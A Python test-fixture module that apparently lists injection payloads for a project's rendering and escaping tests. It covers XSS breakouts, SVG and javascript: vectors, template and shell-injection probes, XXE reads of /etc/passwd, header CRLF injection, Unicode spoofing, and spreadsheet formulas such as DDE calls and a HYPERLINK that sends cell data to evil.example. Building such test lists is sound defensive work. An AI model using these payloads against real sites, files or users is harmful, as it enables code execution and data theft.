"""Texts that a forum, a letter or a question may hold to break out of where it is shown. Written for this project.

Whatever runs calls `hit(1)`, which the browser tests watch; nothing here does harm where it fails to be held.
"""

HIT = "hit(1)"

_RUNNING = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbeforetoggle"]

ELEMENTS = [
    f"<script>{HIT}</script>", f"<SCRIPT>{HIT}</SCRIPT>", f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script/x>{HIT}</script>", f"<script\n>{HIT}</script\n>", f"<script\t>{HIT}</script>",
    f"<script type=module>{HIT}</script>", "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,hit(1)></script>", f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'>",
    f'<img src=x onerror="{HIT}">', f"<img/src=x/onerror={HIT}>", f"<img src=x onerror=\n{HIT}>",
    f"<IMG SRC=x ONERROR={HIT}>", f"<image src=x onerror={HIT}>", f"<img src=x:x onerror={HIT}//",
    f"<img src onerror={HIT}>", f"<img srcset=x onerror={HIT}>", f"<video><source onerror={HIT}></video>",
    f"<video src=x onerror={HIT}></video>", f"<audio src=x onerror={HIT}></audio>", f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}></select>",
    f"<textarea autofocus onfocus={HIT}></textarea>", f"<button autofocus onfocus={HIT}>x</button>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>", f"<marquee onstart={HIT}>x</marquee>",
    f"<div onmouseover={HIT}>x</div>", f"<p onclick={HIT}>x</p>", f"<a href=x onclick={HIT}>x</a>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={HIT}>x</b>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", f"<iframe src=javascript:parent.{HIT}></iframe>",
    "<iframe src=//evil.example/></iframe>", "<embed src=//evil.example/x.swf>",
    "<object data=//evil.example/></object>", f"<object data=javascript:{HIT}></object>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<form action=//evil.example/><button>x</button></form>",
    f"<form action=javascript:{HIT}><input type=submit></form>", f"<button formaction=javascript:{HIT}>x</button>",
    f"<keygen autofocus onfocus={HIT}>", f"<frameset onload={HIT}></frameset>", "<plaintext>", "<xmp>",
    "<noscript><p title='</noscript>", f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
    f"<template><script>{HIT}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>", f"<portal src=javascript:{HIT}></portal>",
    f"<dialog open onclose={HIT}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<p popover id=p onbeforetoggle={HIT}>x</p>", f"<x contenteditable onblur={HIT}>x</x>", "<b>bold</b>",
    "<!-- -->", "<!--", "<!--><img src=x>", "<![CDATA[<img src=x>]]>", "<!DOCTYPE html>", "<?php echo 1 ?>",
    "<?xml version='1.0'?>", "<%= 7*7 %>", "</", "<", "<a", "<a href='",
]  # fmt: skip
"""Elements of HTML, whole and broken off."""

BREAKING_OUT = [
    f'"><script>{HIT}</script>', f"'><script>{HIT}</script>", f"></a><script>{HIT}</script>",
    f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</style><script>{HIT}</script>",
    f"</script><script>{HIT}</script>", f"</svg><script>{HIT}</script>", f"</table><img src=x onerror={HIT}>",
    f"</option></select><img src=x onerror={HIT}>", f"</main></body></html><script>{HIT}</script>",
    f"--><script>{HIT}</script>", f"]]><script>{HIT}</script>", f"*/</style><script>{HIT}</script>",
    *(f'" {name}={HIT} x="' for name in _RUNNING), *(f"' {name}={HIT} x='" for name in _RUNNING[:4]),
    f'" autofocus onfocus={HIT} tabindex=1 x="', f"` onerror={HIT} x=`", f'"\nonfocus={HIT}\nautofocus\nx="',
    f'" style="animation-name:x" onanimationstart="{HIT}', '" hidden "', '" aria-hidden="true', '"/>', '">', "'>",
    "\">'>", f"&quot;><script>{HIT}</script>", f"&#34;><script>{HIT}</script>", f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;", f"&#x3c;script&#x3e;{HIT}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{HIT}%3C/script%3E", f"%253Cscript%253E{HIT}%253C/script%253E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e", f"\\x3cscript\\x3e{HIT}",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-", f"\u00bcscript\u00be{HIT}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e", f"<\u0000script>{HIT}</script>", f"<scr\u0000ipt>{HIT}</script>",
]  # fmt: skip
"""Ends of what stands around the text, attributes, and other ways to write the signs that end it."""

VECTORS = [
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set onbegin={HIT} attributeName=x>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>", f"<svg><title><img src=x onerror={HIT}></title></svg>",
    f"<svg><desc><script>{HIT}</script></desc></svg>", f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'/>",
    "<svg><image href=//evil.example/x.png></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<math href=javascript:{HIT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x</maction></math>",
    f"</text></svg><img src=x onerror={HIT}>", f'" onload="{HIT}',
    f"<svg><x><![CDATA[</x><img src=x onerror={HIT}>]]></svg>",
]  # fmt: skip
"""Drawings and formulas, which a browser reads by other rules."""

ADDRESSES = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f" javascript:{HIT}", f"\x01javascript:{HIT}", f"java\tscript:{HIT}",
    f"java\nscript:{HIT}", f"javascript&colon;{HIT}", f"javascript&#58;{HIT}", f"javascript\\x3a{HIT}",
    f"javascript://%0a{HIT}", f"javascript://evil.example/%0d%0a{HIT}", f"\u200bjavascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={HIT}>", f"vbscript:{HIT}", "blob:https://evil.example/x", "file:///etc/passwd",
    "view-source:https://evil.example/", "//evil.example/", "\\\\evil.example\\x", "/\\evil.example",
    "https:evil.example", "https://user:password@evil.example/", 'https://evil.example/"onmouseover=hit(1)',
    "https://evil.example/'><script>hit(1)</script>", "https://evil.example/ onclick=hit(1)",
    "https://evil.example/#<img src=x>", "https://evil.example/?x={{7*7}}", "http://[::1]/",
    "https://evil.example/\r\nSet-Cookie: a=b", "feed:javascript:hit(1)", "mailto:x@evil.example?body=<script>",
    "ftp://evil.example/",
]  # fmt: skip
"""Where an address is expected."""

TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ config }}",
    "{{ self.__init__.__globals__ }}", "{{''.__class__}}", "${7*7}", "#{7*7}", "*{7*7}", "@{7*7}", "[[7*7]]",
    "{{constructor.constructor('hit(1)')()}}", "%s", "%d", "%n", "%(name)s", "%", "%%", "{0}", "{site}", "{}", "{",
    "}", "{#", "#}", "{{", "}}", "%}", "$(id)", "`id`", "; ls", "| id", "&& id",
]  # fmt: skip
"""What a template, a format string or a shell would reckon."""

STYLES = [
    "</style>", "expression(hit(1))", "background:url(//evil.example/x)", "}body{display:none",
    "@import '//evil.example/x.css';", "color:red;}*{x:y", "\\3c/style\\3e", "behavior:url(x.htc)",
    "-moz-binding:url(//evil.example/)", "/*", "*/",
]  # fmt: skip

DOCUMENTS = [
    '<!DOCTYPE x [<!ENTITY a "b">]>', '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&xxe;", "&a;", "&#0;", "&#1;", "&#xD800;", "&#x110000;",
    "&amp;lt;script&amp;gt;", "&nbsp;", "&", "&&", "]]>", "]]", "<![CDATA[", "<![CDATA[x]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>", "<?x?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit(1)</x:script>", "<xi:include href='file:///etc/passwd'/>",
    "</item></channel>", "</entry><entry>", "</description><link>//evil.example/</link>", '"/><outline text="x',
    '" xmlUrl="//evil.example/', "xmlns='x'", "<?xml version='1.1'?>",
]  # fmt: skip
"""XML."""

OBJECTS = [
    '"}', '"],"x":["', '","name":"x', "\\", '\\"', "\\u0000", "\\ud800", "</script>", "<!--<script>",
    '{"@context":"//evil.example/"}', '","@type":"Person', "\u2028", "\u2029", "]}'", "__proto__", "constructor",
    "NaN", "-Infinity", "null", "true", "1e999", '{"$ref":"#"}',
]  # fmt: skip
"""JSON, JSON-LD and scripts."""

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '=IMPORTXML("https://evil.example/","//a")', '=WEBSERVICE("https://evil.example/")',
    '=IMAGE("https://evil.example/x.png")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe66=1", "\u22121+1",
    '"=1+1', "'=1+1", "\"\"\"=1+1", ";=1+1", ",=1+1", "x;=1+1", "x\n=1+1", 'x","=1+1', 'x"\r\n=1+1,"', "\x00=1+1",
    "%0A=1+1", "=-+@1", "|calc", "=1+1;=2+2",
]  # fmt: skip
"""Cells that a spreadsheet would reckon, some behind signs it skips, some that begin a cell or a row of their own."""

HEADERS = [
    "x\r\nSet-Cookie: a=b", "x\nSet-Cookie: a=b", "x\rSet-Cookie: a=b", "x\r\n\r\n<script>hit(1)</script>",
    "%0d%0aSet-Cookie:a=b", "x\u560d\u560aSet-Cookie: a=b", "x\u2028Location: //evil.example/", "x\x0bX: y",
    "x\x85X: y", '"; filename="x.exe', 'x>; rel="stylesheet"', "<//evil.example/>; rel=preload", "x\x00y",
    "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "con.csv", "a/b", "/etc/passwd", ".htaccess",
]  # fmt: skip
"""Ends of a header's line, names of files, links in headers."""

SIGNS = [
    "\u202eevil\u202c", "\u202dabc", "\u2066x\u2069", "\u2067abc", "\u200f\u200e", "\u061c", "\x00", "a\x00b",
    "\x01\x02\x03", "\x07\x08", "\x1b[31mred\x1b[0m", "\x7f\x80\x9f", "\x85", "\u200b", "\u200d\u200c",
    "\u2060\ufeff", "\u00ad", "\u180e", "\u034f", "\u115f\u1160\u3164", "\ufff9\ufffa\ufffb", "\ufffe\uffff",
    "\ufffd", "\U000e0001\U000e0041", "\U0010ffff", "\u0430\u0440\u0440\u04cf\u0435", "g\u043evernment", "\u217b",
    "\ufb03", "\u0130\u0131\u017f\u212a", "\u1e9e\u00df", "Z\u0351\u036b\u0343\u032a\u034d" * 12,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u202e" * 40, "\u0e01\u0e33" * 20, "\ufdfd" * 5,
    "\U0001d552\U0001d553\U0001d554", "e\u0301" * 20, "\r", "\n\n\n", "\t", "\u3000", "\u2003\u2003",
]  # fmt: skip
"""Signs that are not seen, turn the reading direction, look like others, or stand in no text."""

OVERLONG = [
    "A" * 5_000, "\u00e9" * 3_000, "<b>" * 1_500, '"' * 3_000, "a " * 2_500, "W" * 300 + "<img src=x>", "&" * 3_000,
    "((" * 800,
]  # fmt: skip

STORED = [
    *ELEMENTS, *BREAKING_OUT, *VECTORS, *ADDRESSES, *TEMPLATES, *STYLES, *DOCUMENTS, *OBJECTS, *FORMULAS, *HEADERS,
    *SIGNS, *OVERLONG,
]  # fmt: skip
"""All that a database can hold."""

LONE = ["\ud800", "x\udfff", "\udc00\ud800", "<\ud83d>", "=\ud800"]
"""Halves of characters: no database holds them, but a program may hand them to what writes a format."""

PAYLOADS = [*STORED, *LONE]
